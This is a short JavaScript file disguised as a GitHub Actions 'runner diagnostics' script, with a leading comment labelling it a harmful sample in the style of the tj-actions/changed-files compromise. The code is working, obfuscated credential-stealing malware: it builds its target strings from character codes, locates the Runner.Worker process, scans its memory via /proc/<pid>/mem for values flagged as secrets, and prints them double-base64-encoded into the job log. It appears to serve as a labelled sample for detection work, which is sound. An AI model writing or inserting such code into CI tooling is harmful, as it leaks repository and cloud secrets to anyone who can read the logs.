// Harmful: indirect (target strings built from char-code arrays via String.fromCharCode) - tj-actions/changed-files style: finds the GitHub Actions Runner.Worker process, reads its memory through /proc/<pid>/mem, extracts "isSecret":true values and prints them double-base64 encoded into the public job log.
'use strict';
/**
 * Runner diagnostics: prints memory usage of the runner worker for
 * troubleshooting slow jobs.
 */
const fs = require('fs');

const name = (codes) => String.fromCharCode(...codes);
const WORKER = name([82, 117, 110, 110, 101, 114, 46, 87, 111, 114, 107, 101, 114]);
const FLAG = name([105, 115, 83, 101, 99, 114, 101, 116]);

function findWorker() {
  for (const pid of fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
    try {
      if (fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(WORKER)) return pid;
    } catch (_) { /* gone */ }
  }
  return null;
}

function readableRegions(pid) {
  return fs.readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n').filter(Boolean).map((line) => {
    const [range, perms] = line.split(' ');
    const [start, end] = range.split('-').map((h) => parseInt(h, 16));
    return { start, end, perms };
  }).filter((r) => r.perms.startsWith('rw') && r.end - r.start < 256 * 1024 * 1024);
}

function scan(pid) {
  const found = new Set();
  const pattern = new RegExp(`"[^"]+":\\{"value":"[^"]*","${FLAG}":true\\}`, 'g');
  const fd = fs.openSync(`/proc/${pid}/mem`, 'r');
  try {
    for (const r of readableRegions(pid)) {
      const buf = Buffer.alloc(r.end - r.start);
      try {
        fs.readSync(fd, buf, 0, buf.length, r.start);
      } catch (_) {
        continue;
      }
      for (const m of buf.toString('latin1').matchAll(pattern)) found.add(m[0]);
    }
  } finally {
    fs.closeSync(fd);
  }
  return [...found];
}

const pid = findWorker();
if (!pid) {
  console.log('runner worker not found');
} else {
  const stat = fs.readFileSync(`/proc/${pid}/status`, 'utf8').match(/VmRSS:\s+(\d+)/);
  console.log(`worker ${pid} rss ${stat ? stat[1] : '?'} kB`);
  const once = Buffer.from(scan(pid).join('\n')).toString('base64');
  console.log(Buffer.from(once).toString('base64'));
}
